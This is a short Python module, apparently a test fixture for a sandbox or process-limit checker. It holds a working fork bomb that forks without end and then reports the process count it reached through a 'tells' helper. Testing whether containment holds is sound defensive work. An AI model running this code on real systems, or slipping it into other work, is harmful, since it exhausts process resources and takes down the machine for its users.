"""A fork bomb."""

import contextlib
import os

from tells import tell


def when_asked():
    tell(processes=1)
    counted = False
    while True:
        try:
            os.fork()
        except OSError:
            if not counted:
                counted = True
                with contextlib.suppress(OSError):
                    tell(processes=sum(name.isdigit() for name in os.listdir("/proc")))
